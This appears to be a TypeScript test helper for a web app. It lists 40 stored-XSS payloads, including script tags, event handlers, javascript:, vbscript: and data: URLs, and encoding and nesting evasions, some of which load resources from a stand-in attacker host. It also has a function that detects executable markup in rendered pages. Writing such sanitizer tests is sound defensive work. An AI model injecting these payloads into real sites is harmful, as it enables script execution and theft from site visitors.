/**
 * Known stored-XSS payloads (script tags, event handlers, `javascript:` and `data:` URLs, SVG,
 * CSS, and the usual filter-evasion tricks), for every field staff type that members read.
 * Each carries its index, so a failure names the payload that got through.
 */
export const XSS_PAYLOADS: string[] = [
  "<script>alert('x1')</script>",
  "<SCRIPT SRC=https://evil.example/x2.js></SCRIPT>",
  "<img src=x onerror=alert('x3')>",
  "<img src=\"javascript:alert('x4')\">",
  "<svg onload=alert('x5')>",
  "<svg><script>alert('x6')</script></svg>",
  "<body onload=alert('x7')>",
  "<iframe src=\"javascript:alert('x8')\"></iframe>",
  '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
  "<a href=\"javascript:alert('x10')\">x10</a>",
  "[x11](javascript:alert('x11'))",
  "[x12](JaVaScRiPt:alert('x12'))",
  "[x13](java\tscript:alert('x13'))",
  "[x14](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=)",
  "[x15](vbscript:msgbox('x15'))",
  "![x16](https://evil.example/x16.png)",
  "![x17](javascript:alert('x17'))",
  "<div style=\"background:url(javascript:alert('x18'))\">x18</div>",
  "<style>@import 'https://evil.example/x19.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x20.css">',
  '<object data="https://evil.example/x21.swf"></object>',
  '<embed src="https://evil.example/x22.swf">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert('x23')>",
  "<form action=\"javascript:alert('x24')\"><button>x24</button></form>",
  "<input autofocus onfocus=alert('x25')>",
  "<details open ontoggle=alert('x26')>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(\'x27\')">',
  '<base href="https://evil.example/x28/">',
  "\"><script>alert('x29')</script>",
  "'><img src=x onerror=alert('x30')>",
  "</textarea><script>alert('x31')</script>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('x32')\">x32</a>",
  "[x33](&#106;avascript:alert('x33'))",
  "<scr<script>ipt>alert('x34')</scr</script>ipt>",
  "<video><source onerror=alert('x35')></video>",
  "<svg><a xlink:href=\"javascript:alert('x36')\"><text>x36</text></a></svg>",
  "<x onclick=alert('x37')>x37</x>",
  "[x38](//evil.example/x38)",
  "<noscript><p title=\"</noscript><img src=x onerror=alert('x39')>\">",
  "javascript:alert('x40')",
];

const DANGEROUS_URL = /^\s*(javascript|vbscript|data):/i;
// Elements that run, load or restyle: none may come from staff text.
const FORBIDDEN_TAGS = new Set([
  "iframe",
  "object",
  "embed",
  "style",
  "link",
  "base",
  "img",
  "video",
  "audio",
  "source",
  "math",
  "form",
  "input",
  "textarea",
  "x",
  "body",
]);

/**
 * What in a page could run script or load from another site, outside the page's own markup:
 * `own` lists the tags (with their attributes) the page has without any staff text, so that
 * the header's SVG logo, a search form or the app's nonce'd scripts are not counted.
 */
export function executableMarkup(html: string, own: Set<string> = new Set()): string[] {
  const found: string[] = [];
  const headEnd = html.indexOf("</head>");
  for (const match of html.matchAll(/<([a-zA-Z][a-zA-Z0-9:-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g)) {
    const [tag, rawName, attributes] = match;
    const name = rawName.toLowerCase();
    if (own.has(tag)) continue;
    // The page's stylesheets: one nonce'd <style> in the head (its nonce is new on every
    // response, so the baseline cannot list it). Staff text is only ever in the body.
    if (name === "style" && /\bnonce=/.test(attributes) && (match.index ?? 0) < headEnd) continue;
    if (name === "script" && !/\bnonce=/.test(attributes)) found.push(tag);
    if (FORBIDDEN_TAGS.has(name) || name === "svg" || name === "meta") found.push(tag);
    for (const attribute of attributes.matchAll(
      /([^\s"'=<>/]+)\s*(?:=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g,
    )) {
      const attributeName = attribute[1].toLowerCase();
      const value = decodeEntities(attribute[2] ?? attribute[3] ?? attribute[4] ?? "");
      if (attributeName.startsWith("on")) found.push(tag);
      if (attributeName === "style" || attributeName === "srcdoc") found.push(tag);
      if (
        ["href", "src", "action", "formaction", "xlink:href", "data"].includes(attributeName) &&
        (DANGEROUS_URL.test(value) ||
          /^\s*\/\//.test(value) ||
          (/evil\.example/.test(value) && attributeName !== "href"))
      )
        found.push(tag);
    }
  }
  return found;
}

/** The tags of a page as it is without staff text: the baseline for executableMarkup. */
export function ownTags(html: string): Set<string> {
  return new Set(html.match(/<[a-zA-Z][^>]*>/g) ?? []);
}

function decodeEntities(value: string) {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) =>
      String.fromCodePoint(Number.parseInt(hex, 16)),
    )
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;/gi, "\t")
    .replace(/&newline;/gi, "\n")
    .replace(/&amp;/g, "&")
    .replace(/[\t\n\r]/g, "");
}
